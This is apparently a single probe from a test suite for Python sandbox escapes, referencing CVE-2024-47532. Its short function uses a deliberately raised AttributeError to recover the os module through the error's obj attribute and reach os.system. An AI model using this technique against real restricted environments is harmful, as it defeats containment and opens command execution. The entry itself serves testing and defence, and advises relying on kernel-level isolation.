# title: Catch an object from an error
# tries: Makes an error about an attribute that is missing: since Python 3.10 the error carries the object which was asked, private or not.
# impact: Integrity
# reference: CVE-2024-47532
# proof: returned
# host: run
# allowed: policy off
# advice: Count on the kernel, not on rules about Python: with isolation around the process this gains nothing.


def attempt(host):
    import uuid
    from operator import attrgetter

    try:
        attrgetter("os.no_such_name")(uuid)
    except AttributeError as error:
        return f"{error.obj.system} by an error"
